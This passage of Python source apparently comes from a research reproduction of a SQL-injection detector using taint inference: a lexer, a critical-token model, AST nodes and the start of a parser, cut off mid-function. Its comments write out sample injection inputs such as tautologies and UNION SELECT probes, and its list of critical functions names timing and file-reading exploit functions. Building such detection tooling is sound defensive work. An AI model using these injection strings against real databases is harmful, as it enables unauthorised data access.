        i = pos  # bare "0x" -- treat as plain number 0 then identifier
    seen_dot = False
    seen_exp = False
    while i < n:
        ch = text[i]
        if _is_ascii_digit(ch):
            i += 1
        elif ch == "." and not seen_dot and not seen_exp:
            seen_dot = True
            i += 1
        elif ch in "eE" and not seen_exp and i > pos and _is_ascii_digit(text[i - 1]):
            if i + 1 < n and _is_ascii_digit(text[i + 1]):
                seen_exp = True
                i += 2
            elif (
                i + 2 < n
                and text[i + 1] in "+-"
                and _is_ascii_digit(text[i + 2])
            ):
                seen_exp = True
                i += 3
            else:
                break
        else:
            break
    return i, ("float" if seen_dot or seen_exp else "int")


def _lex_number(text: str, pos: int) -> tuple[int, object]:
    """Lex a numeric literal; returns (end, value)."""
    end, kind = _scan_number(text, pos)
    raw = text[pos:end]
    if kind == "hex":
        return end, int(raw, 16)
    if kind == "float":
        return end, float(raw)
    return end, int(raw)


def _is_ident_start(ch: str) -> bool:
    return ch.isalpha() or ch == "_" or ch == "$" or ord(ch) > 127


def _is_ident_char(ch: str) -> bool:
    return ch.isalnum() or ch == "_" or ch == "$" or ord(ch) > 127


def tokenize(query: str) -> list[Token]:
    """Tokenize ``query`` into a lossless token list (whitespace included).

    Never raises on malformed input; the final element is always an ``EOF``
    token with an empty ``text``.
    """
    tokens: list[Token] = []
    pos = 0
    n = len(query)
    # Hot-path local bindings: this loop runs once per character class per
    # query, so method/global lookups are hoisted out of it.
    append = tokens.append
    _Token = Token
    _TT = TokenType
    while pos < n:
        ch = query[pos]
        if ch.isspace():
            end = pos + 1
            while end < n and query[end].isspace():
                end += 1
            append(_Token(_TT.WHITESPACE, query[pos:end], pos, end))
            pos = end
            continue
        if ch == "#":
            end = _lex_line_comment(query, pos)
            append(_Token(_TT.COMMENT, query[pos:end], pos, end))
            pos = end
            continue
        if query.startswith("--", pos):
            # MySQL requires whitespace (or end) after --, but attack payloads
            # often use bare "--"; accept both.
            end = _lex_line_comment(query, pos)
            append(_Token(_TT.COMMENT, query[pos:end], pos, end))
            pos = end
            continue
        if query.startswith("/*", pos):
            end = _lex_block_comment(query, pos)
            append(_Token(_TT.COMMENT, query[pos:end], pos, end))
            pos = end
            continue
        if ch in "'\"`":
            end = _lex_quoted(query, pos, ch)
            raw = query[pos:end]
            ttype = _TT.IDENTIFIER if ch == "`" else _TT.STRING
            append(_Token(ttype, raw, pos, end, value=_string_value(raw, ch)))
            pos = end
            continue
        if ch in _ASCII_DIGITS or (
            ch == "." and pos + 1 < n and query[pos + 1] in _ASCII_DIGITS
        ):
            end, value = _lex_number(query, pos)
            append(_Token(_TT.NUMBER, query[pos:end], pos, end, value=value))
            pos = end
            continue
        if ch == "?":
            append(_Token(_TT.PLACEHOLDER, "?", pos, pos + 1))
            pos += 1
            continue
        if ch == ":" and pos + 1 < n and _is_ident_start(query[pos + 1]):
            end = pos + 1
            while end < n and _is_ident_char(query[end]):
                end += 1
            append(_Token(_TT.PLACEHOLDER, query[pos:end], pos, end))
            pos = end
            continue
        if _is_ident_start(ch):
            end = pos + 1
            while end < n and _is_ident_char(query[end]):
                end += 1
            word = query[pos:end]
            if is_sql_keyword(word):
                append(_Token(_TT.KEYWORD, word, pos, end, value=word.lower()))
            else:
                append(_Token(_TT.IDENTIFIER, word, pos, end))
            pos = end
            continue
        if ch in _PUNCTUATION:
            append(_Token(_TT.PUNCTUATION, ch, pos, pos + 1))
            pos += 1
            continue
        if ch in _OPERATOR_STARTS or ch in "@:":
            if query.startswith("<=>", pos):
                append(_Token(_TT.OPERATOR, "<=>", pos, pos + 3))
                pos += 3
                continue
            two = query[pos : pos + 2]
            if two in _TWO_CHAR_OPERATORS:
                append(_Token(_TT.OPERATOR, two, pos, pos + 2))
                pos += 2
            else:
                append(_Token(_TT.OPERATOR, ch, pos, pos + 1))
                pos += 1
            continue
        # Unknown character: surface it as a critical one-char operator so
        # attack payloads using exotic bytes remain visible to the analyses.
        append(_Token(_TT.OPERATOR, ch, pos, pos + 1))
        pos += 1
    append(_Token(_TT.EOF, "", n, n))
    return tokens


def tokenize_significant(query: str) -> list[Token]:
    """Tokenize and drop whitespace and EOF; comments are retained.

    This is the stream consumed by the parser and by critical-token
    extraction (comments matter -- they are critical tokens).
    """
    return [
        t
        for t in tokenize(query)
        if t.type not in (TokenType.WHITESPACE, TokenType.EOF)
    ]
