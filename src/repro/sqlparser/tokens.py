"""SQL token model and critical-token classification.

Both taint inference components reason about *critical tokens* (paper
Sections II and III): SQL keywords, built-in function names, operators and
delimiters, and comments (treated as a single critical token).  An injection
occurs when attacker-controlled input is interpreted as one of these, or
changes the intended syntactic structure of a command.

Identifiers and literals in *data positions* are deliberately **not**
critical: the paper's pragmatic threat model (Section II) tolerates
applications that pass field and table names through user input, so marking
them critical would break common programs.
"""

from __future__ import annotations

import enum
from typing import NamedTuple

__all__ = [
    "TokenType",
    "Token",
    "SQL_KEYWORDS",
    "SQL_FUNCTIONS",
    "is_sql_keyword",
    "is_sql_function",
]


class TokenType(enum.Enum):
    """Lexical category of a SQL token."""

    KEYWORD = "keyword"          # SELECT, UNION, OR, ...
    IDENTIFIER = "identifier"    # table/column names, incl. `quoted`
    NUMBER = "number"            # 42, 3.14, 0x1F
    STRING = "string"            # 'abc', "abc"
    OPERATOR = "operator"        # = <> <= || + - * / %
    PUNCTUATION = "punct"        # ( ) , ; .
    COMMENT = "comment"          # /* ... */, -- ..., # ...
    PLACEHOLDER = "placeholder"  # ? or :name (prepared statements)
    WHITESPACE = "whitespace"
    EOF = "eof"


#: Keywords of the MySQL-flavoured subset understood by the parser.  This set
#: doubles as the critical-keyword list for taint analysis, and as the filter
#: used during fragment extraction ("only fragments that contain at least one
#: valid SQL token need to be retained", Section IV-A).
SQL_KEYWORDS = frozenset(
    """
    select insert update delete replace from where and or not in is null like
    between union all distinct as order by group having limit offset join
    inner left right outer cross on using values set into create table drop
    alter index primary key unique auto_increment default references foreign
    asc desc case when then else end exists any some true false unknown
    interval div mod xor regexp rlike binary collate escape prepare execute
    deallocate begin commit rollback describe explain show grant revoke
    """.split()
)

#: Built-in SQL functions treated as critical tokens when they appear in call
#: position.  Includes the information-extraction and timing functions used
#: by real exploits (``username()``/``user()``, ``sleep``, ``benchmark``).
SQL_FUNCTIONS = frozenset(
    """
    count sum avg min max concat concat_ws substring substr length char
    ascii ord hex unhex lower upper trim ltrim rtrim replace sleep benchmark
    version user username current_user database schema now curdate curtime
    if ifnull nullif coalesce cast convert group_concat load_file rand md5
    sha1 floor ceil ceiling round abs greatest least instr locate mid left
    right elt field find_in_set format lpad rpad repeat reverse space
    strcmp make_set extractvalue updatexml
    """.split()
)


def is_sql_keyword(word: str) -> bool:
    """True when ``word`` (case-insensitive) is a keyword of our SQL subset."""
    return word.lower() in SQL_KEYWORDS


def is_sql_function(word: str) -> bool:
    """True when ``word`` (case-insensitive) names a built-in SQL function."""
    return word.lower() in SQL_FUNCTIONS


#: Operators that count as security-critical.  Comparison and logical
#: operators (and the projection star) can change what a query returns;
#: arithmetic signs, the dot qualifier and grouping punctuation cannot, and
#: the paper's own Figure 3B treats ``-1 UNION SELECT username()`` as having
#: exactly three uncovered critical tokens (UNION, SELECT, username()) --
#: the minus sign, parentheses and the comma are data-plumbing, not code.
CRITICAL_OPERATORS = frozenset(
    {"=", "<", ">", "<=", ">=", "<>", "!=", "<=>", "||", "&&", "!", "*", "@"}
)

#: Statement delimiter; the only critical punctuation (stacked queries).
CRITICAL_PUNCTUATION = frozenset({";"})


class _TokenBase(NamedTuple):
    """Field layout of :class:`Token` (see there for semantics)."""

    type: TokenType
    text: str
    start: int
    end: int
    value: object = None


class Token(_TokenBase):
    """A lexed SQL token with its exact source span.

    A ``NamedTuple`` rather than a (frozen) dataclass: the lexer allocates
    one of these per token of every analysed query -- whitespace and
    stray-character operators included -- so this is the hottest allocation
    site in the whole pipeline.  Tuple construction is several times
    cheaper than a frozen-dataclass ``__init__`` (which pays
    ``object.__setattr__`` per field), the instances carry no ``__dict__``,
    and attribute reads compile to C-level item access.  Equality, hashing
    and pickling (tokens cross the daemon pipe) keep the exact semantics of
    the previous frozen dataclass: all five fields participate.

    The NamedTuple metaclass refuses ``__new__`` overrides in its own body,
    so the layout lives in :class:`_TokenBase` and this subclass layers the
    value-defaulting rule (``value=None`` means "same as text", previously
    ``__post_init__``) on top.  ``__slots__`` stays empty: the tuple items
    are the storage.

    Attributes:
        type: lexical category.
        text: the exact source text (including quotes for strings, comment
            delimiters for comments).
        start: offset of the first character in the query string.
        end: offset one past the last character.
        value: normalised semantic value -- unquoted string contents,
            numeric value as ``int``/``float``, lowercased keyword, or the
            raw text for other categories.
    """

    __slots__ = ()

    def __new__(
        cls,
        type: TokenType,
        text: str,
        start: int,
        end: int,
        value: object = None,
    ) -> "Token":
        if value is None:
            value = text
        return tuple.__new__(cls, (type, text, start, end, value))

    @property
    def upper(self) -> str:
        """Uppercased token text, convenient for keyword comparisons."""
        return self.text.upper()

    def is_critical(self, *, next_is_call: bool = False, strict: bool = False) -> bool:
        """Whether this token is security-critical per the paper's model.

        Critical: SQL keywords, comparison/logical operators
        (:data:`CRITICAL_OPERATORS`), the statement delimiter ``;``,
        comments (each one whole token), and built-in function names in
        call position (``next_is_call``), e.g. the ``username()`` of
        Figure 3B.  Literals, placeholders, ordinary identifiers,
        arithmetic signs and grouping punctuation are data.

        ``strict`` switches to a Ray/Ligatti-style policy (paper Section
        II): *identifiers* become critical too, so applications that pass
        field or table names through user input are rejected.  The paper
        deliberately does not use this ("many programs ... would break");
        it is offered as the adjustable-policy knob Section II mentions.
        """
        if self.type in (TokenType.KEYWORD, TokenType.COMMENT):
            return True
        if self.type is TokenType.OPERATOR:
            return self.text in CRITICAL_OPERATORS
        if self.type is TokenType.PUNCTUATION:
            return self.text in CRITICAL_PUNCTUATION
        if self.type is TokenType.IDENTIFIER:
            if strict:
                return True
            return next_is_call and is_sql_function(self.text)
        return False

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"Token({self.type.name}, {self.text!r}, {self.start}:{self.end})"
