"""SQL lexing, parsing and structural analysis substrate.

The pieces consumed elsewhere in the system:

- :func:`tokenize` / :func:`tokenize_significant` -- lossless lexing with
  exact source spans (NTI's whole-token rule, PTI's containment rule).
- :func:`parse_statement` -- AST construction for the database engine.
- :func:`critical_tokens` -- the critical-token extraction shared by NTI and
  PTI (paper Sections II/III).
- :func:`structure_signature` / :func:`try_structure_signature` -- keys for
  the PTI query-structure cache (Section VI-A).
"""

from .ast_nodes import (
    Between,
    Binary,
    CaseExpr,
    ColumnRef,
    Delete,
    ExistsExpr,
    Expr,
    FunctionCall,
    InList,
    Insert,
    IsNull,
    Join,
    Like,
    Literal,
    Node,
    OrderItem,
    Placeholder,
    Select,
    SelectItem,
    Star,
    Statement,
    SubqueryExpr,
    TableRef,
    Union,
    Unary,
    Update,
)
from .lexer import tokenize, tokenize_significant
from .parser import Parser, SqlParseError, critical_tokens, parse_statement
from .skeleton import LiteralSlot, Skeleton, skeletonize
from .structure import (
    signature_and_tokens,
    structure_signature,
    token_signature,
    try_query_signature,
    try_structure_signature,
)
from .tokens import (
    SQL_FUNCTIONS,
    SQL_KEYWORDS,
    Token,
    TokenType,
    is_sql_function,
    is_sql_keyword,
)

__all__ = [
    "Between",
    "Binary",
    "CaseExpr",
    "ColumnRef",
    "Delete",
    "ExistsExpr",
    "Expr",
    "FunctionCall",
    "InList",
    "Insert",
    "IsNull",
    "Join",
    "Like",
    "Literal",
    "Node",
    "OrderItem",
    "Placeholder",
    "Select",
    "SelectItem",
    "Star",
    "Statement",
    "SubqueryExpr",
    "TableRef",
    "Union",
    "Unary",
    "Update",
    "tokenize",
    "tokenize_significant",
    "Parser",
    "SqlParseError",
    "critical_tokens",
    "parse_statement",
    "LiteralSlot",
    "Skeleton",
    "skeletonize",
    "structure_signature",
    "try_structure_signature",
    "try_query_signature",
    "token_signature",
    "signature_and_tokens",
    "SQL_FUNCTIONS",
    "SQL_KEYWORDS",
    "Token",
    "TokenType",
    "is_sql_function",
    "is_sql_keyword",
]
