"""AST node definitions for the SQL subset.

Nodes are plain frozen dataclasses.  Two design constraints come from the
paper:

- The **query structure cache** (Section IV-C/VI-A) keys on "abstract syntax
  trees of parsed queries without storing contents of data nodes".  Every
  node therefore implements ``structure_key()``, a hashable skeleton in which
  literal values are replaced by a type marker while all structural elements
  (keywords, operators, function names, clause shapes) are preserved.
- The **database engine** executes these nodes directly, so the node set
  covers the statements the testbed applications actually issue, including
  everything exploits need (UNION, subqueries, sleep/benchmark calls,
  tautological predicates, comments).
"""

from __future__ import annotations

from dataclasses import dataclass, field

__all__ = [
    "Node",
    "Expr",
    "Literal",
    "ColumnRef",
    "Star",
    "Placeholder",
    "Unary",
    "Binary",
    "FunctionCall",
    "InList",
    "Between",
    "IsNull",
    "Like",
    "CaseExpr",
    "SubqueryExpr",
    "ExistsExpr",
    "SelectItem",
    "TableRef",
    "Join",
    "OrderItem",
    "Select",
    "Union",
    "Insert",
    "Update",
    "Delete",
    "Statement",
]


class Node:
    """Base class for all AST nodes.

    The bases carry empty ``__slots__`` so the hot-path leaf nodes below can
    opt out of per-instance ``__dict__`` entirely.  Only leaves whose fields
    all lack defaults declare slots: a dataclass field *with* a default
    becomes a class attribute, which collides with the slot descriptor of
    the same name (a restriction of declaring ``__slots__`` manually, which
    is what Python 3.9 -- the oldest CI interpreter -- requires; the
    ``slots=True`` dataclass flag is 3.10+).  Leaves without slots simply
    keep their ``__dict__`` -- no behaviour change.
    """

    __slots__ = ()

    def structure_key(self) -> tuple:
        """Hashable structural skeleton with data-node contents erased."""
        raise NotImplementedError


class Expr(Node):
    """Base class for expressions."""

    __slots__ = ()


@dataclass(frozen=True)
class Literal(Expr):
    """A constant: number, string, boolean or NULL.  This is a *data node*."""

    __slots__ = ("value",)

    value: object

    def structure_key(self) -> tuple:
        # Contents erased; only the broad type survives, so e.g.
        # ``WHERE id = 1`` and ``WHERE id = 2`` share a structure key while
        # ``WHERE id = 1 OR 1=1`` does not.
        return ("lit", type(self.value).__name__)


@dataclass(frozen=True)
class ColumnRef(Expr):
    """Reference to a column, optionally qualified by table name."""

    name: str
    table: str | None = None

    def structure_key(self) -> tuple:
        return ("col", self.table, self.name.lower() if self.name else None)


@dataclass(frozen=True)
class Star(Expr):
    """The ``*`` select item (optionally ``t.*``)."""

    table: str | None = None

    def structure_key(self) -> tuple:
        return ("star", self.table)


@dataclass(frozen=True)
class Placeholder(Expr):
    """A prepared-statement placeholder, ``?`` or ``:name``."""

    __slots__ = ("name",)

    name: str

    def structure_key(self) -> tuple:
        return ("ph", self.name)


@dataclass(frozen=True)
class Unary(Expr):
    """Unary operator application (``-x``, ``NOT x``)."""

    __slots__ = ("op", "operand")

    op: str
    operand: Expr

    def structure_key(self) -> tuple:
        return ("unary", self.op, self.operand.structure_key())


@dataclass(frozen=True)
class Binary(Expr):
    """Binary operator application (arithmetic, comparison, AND/OR)."""

    __slots__ = ("op", "left", "right")

    op: str
    left: Expr
    right: Expr

    def structure_key(self) -> tuple:
        return ("bin", self.op, self.left.structure_key(), self.right.structure_key())


@dataclass(frozen=True)
class FunctionCall(Expr):
    """Built-in function invocation, e.g. ``SLEEP(5)`` or ``CONCAT(a, b)``."""

    name: str
    args: tuple[Expr, ...] = ()
    distinct: bool = False

    def structure_key(self) -> tuple:
        return (
            "call",
            self.name.lower(),
            self.distinct,
            tuple(a.structure_key() for a in self.args),
        )


@dataclass(frozen=True)
class InList(Expr):
    """``expr [NOT] IN (e1, e2, ...)`` or ``expr [NOT] IN (subquery)``."""

    needle: Expr
    items: tuple[Expr, ...]
    negated: bool = False

    def structure_key(self) -> tuple:
        return (
            "in",
            self.negated,
            self.needle.structure_key(),
            tuple(i.structure_key() for i in self.items),
        )


@dataclass(frozen=True)
class Between(Expr):
    """``expr [NOT] BETWEEN low AND high``."""

    needle: Expr
    low: Expr
    high: Expr
    negated: bool = False

    def structure_key(self) -> tuple:
        return (
            "between",
            self.negated,
            self.needle.structure_key(),
            self.low.structure_key(),
            self.high.structure_key(),
        )


@dataclass(frozen=True)
class IsNull(Expr):
    """``expr IS [NOT] NULL``."""

    operand: Expr
    negated: bool = False

    def structure_key(self) -> tuple:
        return ("isnull", self.negated, self.operand.structure_key())


@dataclass(frozen=True)
class Like(Expr):
    """``expr [NOT] LIKE pattern``."""

    operand: Expr
    pattern: Expr
    negated: bool = False

    def structure_key(self) -> tuple:
        return (
            "like",
            self.negated,
            self.operand.structure_key(),
            self.pattern.structure_key(),
        )


@dataclass(frozen=True)
class CaseExpr(Expr):
    """``CASE [operand] WHEN ... THEN ... [ELSE ...] END``."""

    operand: Expr | None
    whens: tuple[tuple[Expr, Expr], ...]
    default: Expr | None = None

    def structure_key(self) -> tuple:
        return (
            "case",
            self.operand.structure_key() if self.operand else None,
            tuple((w.structure_key(), t.structure_key()) for w, t in self.whens),
            self.default.structure_key() if self.default else None,
        )


@dataclass(frozen=True)
class SubqueryExpr(Expr):
    """A parenthesised SELECT used as a scalar or row expression."""

    __slots__ = ("select",)

    select: "Select | Union"

    def structure_key(self) -> tuple:
        return ("subq", self.select.structure_key())


@dataclass(frozen=True)
class ExistsExpr(Expr):
    """``EXISTS (subquery)``."""

    __slots__ = ("select",)

    select: "Select | Union"

    def structure_key(self) -> tuple:
        return ("exists", self.select.structure_key())


@dataclass(frozen=True)
class SelectItem(Node):
    """One projection item with optional alias."""

    expr: Expr
    alias: str | None = None

    def structure_key(self) -> tuple:
        return ("item", self.expr.structure_key(), self.alias)


@dataclass(frozen=True)
class TableRef(Node):
    """A table in the FROM clause (or a derived table)."""

    name: str | None = None
    alias: str | None = None
    subquery: "Select | Union | None" = None

    def structure_key(self) -> tuple:
        return (
            "table",
            self.name.lower() if self.name else None,
            self.alias,
            self.subquery.structure_key() if self.subquery else None,
        )


@dataclass(frozen=True)
class Join(Node):
    """A join clause attached to the preceding table reference."""

    kind: str  # "inner" | "left" | "right" | "cross"
    table: TableRef
    condition: Expr | None = None

    def structure_key(self) -> tuple:
        return (
            "join",
            self.kind,
            self.table.structure_key(),
            self.condition.structure_key() if self.condition else None,
        )


@dataclass(frozen=True)
class OrderItem(Node):
    """One ORDER BY key."""

    expr: Expr
    descending: bool = False

    def structure_key(self) -> tuple:
        return ("order", self.expr.structure_key(), self.descending)


class Statement(Node):
    """Base class for executable statements."""

    __slots__ = ()


@dataclass(frozen=True)
class Select(Statement):
    """A single SELECT block (no set operators)."""

    items: tuple[SelectItem, ...]
    table: TableRef | None = None
    joins: tuple[Join, ...] = ()
    where: Expr | None = None
    group_by: tuple[Expr, ...] = ()
    having: Expr | None = None
    order_by: tuple[OrderItem, ...] = ()
    limit: Expr | None = None
    offset: Expr | None = None
    distinct: bool = False

    def structure_key(self) -> tuple:
        return (
            "select",
            self.distinct,
            tuple(i.structure_key() for i in self.items),
            self.table.structure_key() if self.table else None,
            tuple(j.structure_key() for j in self.joins),
            self.where.structure_key() if self.where else None,
            tuple(g.structure_key() for g in self.group_by),
            self.having.structure_key() if self.having else None,
            tuple(o.structure_key() for o in self.order_by),
            self.limit.structure_key() if self.limit else None,
            self.offset.structure_key() if self.offset else None,
        )


@dataclass(frozen=True)
class Union(Statement):
    """``SELECT ... UNION [ALL] SELECT ...`` chains."""

    selects: tuple[Select, ...]
    all: bool = False
    order_by: tuple[OrderItem, ...] = ()
    limit: Expr | None = None
    offset: Expr | None = None

    def structure_key(self) -> tuple:
        return (
            "union",
            self.all,
            tuple(s.structure_key() for s in self.selects),
            tuple(o.structure_key() for o in self.order_by),
            self.limit.structure_key() if self.limit else None,
            self.offset.structure_key() if self.offset else None,
        )


@dataclass(frozen=True)
class Insert(Statement):
    """``INSERT INTO t (cols) VALUES (...), (...)`` or ``INSERT ... SELECT``."""

    table: str
    columns: tuple[str, ...] = ()
    rows: tuple[tuple[Expr, ...], ...] = ()
    select: Select | Union | None = None
    replace: bool = False

    def structure_key(self) -> tuple:
        return (
            "insert",
            self.replace,
            self.table.lower(),
            tuple(c.lower() for c in self.columns),
            tuple(tuple(e.structure_key() for e in row) for row in self.rows),
            self.select.structure_key() if self.select else None,
        )


@dataclass(frozen=True)
class Update(Statement):
    """``UPDATE t SET col = expr, ... [WHERE ...] [LIMIT n]``."""

    table: str
    assignments: tuple[tuple[str, Expr], ...]
    where: Expr | None = None
    limit: Expr | None = None

    def structure_key(self) -> tuple:
        return (
            "update",
            self.table.lower(),
            tuple((c.lower(), e.structure_key()) for c, e in self.assignments),
            self.where.structure_key() if self.where else None,
            self.limit.structure_key() if self.limit else None,
        )


@dataclass(frozen=True)
class Delete(Statement):
    """``DELETE FROM t [WHERE ...] [LIMIT n]``."""

    table: str
    where: Expr | None = None
    limit: Expr | None = None

    def structure_key(self) -> tuple:
        return (
            "delete",
            self.table.lower(),
            self.where.structure_key() if self.where else None,
            self.limit.structure_key() if self.limit else None,
        )
