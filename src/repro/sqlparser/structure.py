"""Query structure signatures for the PTI structure cache.

Paper Section VI-A introduces a second-level cache: *"The query structure
cache caches the structure of the SQL query abstract-syntax-tree without the
content of data nodes."*  Two queries that differ only in literal values --
``... WHERE id = 1`` vs ``... WHERE id = 2`` -- share a signature and a
cached safety verdict, while a structurally different (injected) query --
``... WHERE id = 1 OR 1 = 1`` -- does not.

Signatures are derived from ``Statement.structure_key()`` and hashed to a
compact hex digest so cache keys stay small even for large queries.
"""

from __future__ import annotations

import hashlib

from .ast_nodes import Statement
from .parser import SqlParseError, critical_tokens, parse_statement

__all__ = [
    "structure_signature",
    "try_structure_signature",
    "try_query_signature",
    "token_signature",
    "signature_and_tokens",
]


def _fold(key: object, hasher: "hashlib._Hash") -> None:
    """Feed a nested structure-key tuple into a hash incrementally."""
    if isinstance(key, tuple):
        hasher.update(b"(")
        for item in key:
            _fold(item, hasher)
        hasher.update(b")")
    else:
        hasher.update(repr(key).encode("utf-8", "replace"))
        hasher.update(b",")


def structure_signature(statement: Statement) -> str:
    """Stable hex digest of an AST's structure with data-node contents erased."""
    hasher = hashlib.sha256()
    _fold(statement.structure_key(), hasher)
    return hasher.hexdigest()


def try_structure_signature(query: str) -> str | None:
    """Parse ``query`` and return its structure signature, or ``None``.

    Unparseable queries are not cacheable by structure (the paper's structure
    cache only serves syntactically valid queries) -- callers fall back to
    the exact-string query cache or a full analysis.
    """
    try:
        statement = parse_statement(query)
    except SqlParseError:
        return None
    return structure_signature(statement)


def token_signature(stream: list) -> str:
    """Structure signature from a significant-token stream.

    The skeleton keeps every token's exact text *except* literal values
    (strings and numbers), which collapse to a type marker.  Two
    instantiations of one code-site template -- same SQL text, different
    bound data -- share a signature; any change to non-literal text (an
    injected keyword, a case or whitespace change inside injected SQL,
    which PTI's matcher is sensitive to) does not.

    This is the granularity the PTI verdict actually depends on, and it is
    computable from the token stream the daemon lexes anyway -- the whole
    point of the structure cache is to skip the *matching* stage, so its key
    must be cheaper than matching (paper Section VI-A).
    """
    from .tokens import TokenType

    hasher = hashlib.sha256()
    for token in stream:
        if token.type is TokenType.STRING:
            hasher.update(b"\x01s")
        elif token.type is TokenType.NUMBER:
            hasher.update(b"\x01n")
        else:
            hasher.update(token.text.encode("utf-8", "replace"))
        hasher.update(b"\x00")
    return hasher.hexdigest()


def signature_and_tokens(query: str, strict: bool = False) -> tuple["str | None", list]:
    """One-pass computation of (cache signature, critical tokens).

    Lexes once and derives both the critical-token list and the
    token-skeleton signature from the same stream.  ``strict`` selects the
    identifier-critical token policy.
    """
    from .lexer import tokenize_significant

    stream = tokenize_significant(query)
    tokens = critical_tokens(query, stream, strict=strict)
    return token_signature(stream), tokens


def try_query_signature(query: str) -> str | None:
    """Cache key for PTI's structure cache (see :func:`token_signature`)."""
    return signature_and_tokens(query)[0]
