"""Recursive-descent parser for the MySQL-flavoured SQL subset.

The parser serves three masters:

- the :mod:`repro.database` engine executes the AST it produces;
- the PTI daemon parses every intercepted query "to determine the critical
  set of tokens before attempting to match these tokens" (Section VI-A), via
  :func:`critical_tokens`;
- the query structure cache hashes ``Statement.structure_key()``.

Comments are skipped during parsing (they do not affect execution) but
remain visible to the taint analyses through the token stream.

A query that cannot be parsed raises :class:`SqlParseError`.  Analyses treat
unparseable queries conservatively: NTI/PTI fall back to pure token-level
reasoning, so malformed attack probes (common with blind injection) are
still inspected.
"""

from __future__ import annotations

from . import ast_nodes as ast
from .lexer import tokenize_significant
from .tokens import Token, TokenType, is_sql_function

__all__ = ["SqlParseError", "parse_statement", "critical_tokens", "Parser"]


class SqlParseError(Exception):
    """The query does not conform to the supported SQL grammar."""

    def __init__(self, message: str, position: int) -> None:
        super().__init__(f"{message} (at offset {position})")
        self.position = position


#: Binary operator precedence, loosest first.
_PRECEDENCE: list[tuple[str, ...]] = [
    ("or", "||_logical", "xor"),
    ("and", "&&"),
    ("=", "<>", "!=", "<", "<=", ">", ">=", "<=>"),
    ("|",),
    ("&",),
    ("<<", ">>"),
    ("+", "-"),
    ("*", "/", "%", "div", "mod"),
]


class Parser:
    """Single-statement SQL parser over a significant-token stream."""

    def __init__(self, query: str, stream: list[Token] | None = None) -> None:
        self.query = query
        significant = stream if stream is not None else tokenize_significant(query)
        self.tokens = [t for t in significant if t.type is not TokenType.COMMENT]
        self.pos = 0

    # ------------------------------------------------------------------
    # Token-stream helpers
    # ------------------------------------------------------------------

    def _peek(self, ahead: int = 0) -> Token | None:
        idx = self.pos + ahead
        return self.tokens[idx] if idx < len(self.tokens) else None

    def _next(self) -> Token:
        tok = self._peek()
        if tok is None:
            raise SqlParseError("unexpected end of query", len(self.query))
        self.pos += 1
        return tok

    def _at_keyword(self, *words: str) -> bool:
        tok = self._peek()
        return (
            tok is not None
            and tok.type is TokenType.KEYWORD
            and tok.value in words
        )

    def _accept_keyword(self, *words: str) -> Token | None:
        if self._at_keyword(*words):
            return self._next()
        return None

    def _expect_keyword(self, word: str) -> Token:
        tok = self._accept_keyword(word)
        if tok is None:
            found = self._peek()
            at = found.start if found else len(self.query)
            raise SqlParseError(f"expected {word.upper()}", at)
        return tok

    def _accept_punct(self, text: str) -> Token | None:
        tok = self._peek()
        if tok is not None and tok.type is TokenType.PUNCTUATION and tok.text == text:
            return self._next()
        return None

    def _expect_punct(self, text: str) -> Token:
        tok = self._accept_punct(text)
        if tok is None:
            found = self._peek()
            at = found.start if found else len(self.query)
            raise SqlParseError(f"expected '{text}'", at)
        return tok

    def _accept_operator(self, *texts: str) -> Token | None:
        tok = self._peek()
        if tok is not None and tok.type is TokenType.OPERATOR and tok.text in texts:
            return self._next()
        return None

    def _expect_identifier(self) -> str:
        tok = self._peek()
        if tok is not None and tok.type is TokenType.IDENTIFIER:
            self._next()
            return str(tok.value) if tok.text.startswith("`") else tok.text
        # Permit non-reserved keywords used as identifiers in simple spots.
        if tok is not None and tok.type is TokenType.KEYWORD:
            self._next()
            return tok.text
        at = tok.start if tok else len(self.query)
        raise SqlParseError("expected identifier", at)

    # ------------------------------------------------------------------
    # Statements
    # ------------------------------------------------------------------

    def parse(self) -> ast.Statement:
        """Parse exactly one statement; trailing ``;`` is tolerated."""
        stmt = self._statement()
        self._accept_punct(";")
        leftover = self._peek()
        if leftover is not None:
            raise SqlParseError(
                f"unexpected trailing token {leftover.text!r}", leftover.start
            )
        return stmt

    def _statement(self) -> ast.Statement:
        if self._at_keyword("select") or (
            self._peek() is not None
            and self._peek().type is TokenType.PUNCTUATION
            and self._peek().text == "("
        ):
            return self._select_or_union()
        if self._at_keyword("insert", "replace"):
            return self._insert()
        if self._at_keyword("update"):
            return self._update()
        if self._at_keyword("delete"):
            return self._delete()
        tok = self._peek()
        at = tok.start if tok else 0
        raise SqlParseError("unsupported statement", at)

    def _select_or_union(self) -> ast.Select | ast.Union:
        selects = [self._select_core()]
        union_all = False
        saw_union = False
        while self._accept_keyword("union"):
            saw_union = True
            if self._accept_keyword("all"):
                union_all = True
            else:
                self._accept_keyword("distinct")
            selects.append(self._select_core())
        if not saw_union:
            sel = selects[0]
            order_by, limit, offset = self._order_limit()
            if order_by or limit is not None:
                sel = ast.Select(
                    items=sel.items,
                    table=sel.table,
                    joins=sel.joins,
                    where=sel.where,
                    group_by=sel.group_by,
                    having=sel.having,
                    order_by=sel.order_by or order_by,
                    limit=sel.limit if sel.limit is not None else limit,
                    offset=sel.offset if sel.offset is not None else offset,
                    distinct=sel.distinct,
                )
            return sel
        order_by, limit, offset = self._order_limit()
        # A trailing ORDER BY / LIMIT binds to the whole union, but the last
        # SELECT's core parse will already have consumed it -- hoist it.
        last = selects[-1]
        if not order_by and not limit and (last.order_by or last.limit is not None):
            order_by = last.order_by
            limit = last.limit
            offset = last.offset
            selects[-1] = ast.Select(
                items=last.items,
                table=last.table,
                joins=last.joins,
                where=last.where,
                group_by=last.group_by,
                having=last.having,
                distinct=last.distinct,
            )
        return ast.Union(
            selects=tuple(selects),
            all=union_all,
            order_by=order_by,
            limit=limit,
            offset=offset,
        )

    def _select_core(self) -> ast.Select:
        if self._accept_punct("("):
            inner = self._select_or_union()
            self._expect_punct(")")
            if isinstance(inner, ast.Union):
                raise SqlParseError("nested UNION parenthesisation unsupported", self.pos)
            return inner
        self._expect_keyword("select")
        distinct = bool(self._accept_keyword("distinct"))
        self._accept_keyword("all")
        items = [self._select_item()]
        while self._accept_punct(","):
            items.append(self._select_item())
        table: ast.TableRef | None = None
        joins: list[ast.Join] = []
        if self._accept_keyword("from"):
            table = self._table_ref()
            while True:
                join = self._maybe_join()
                if join is None:
                    break
                joins.append(join)
        where = self._expr() if self._accept_keyword("where") else None
        group_by: tuple[ast.Expr, ...] = ()
        if self._accept_keyword("group"):
            self._expect_keyword("by")
            keys = [self._expr()]
            while self._accept_punct(","):
                keys.append(self._expr())
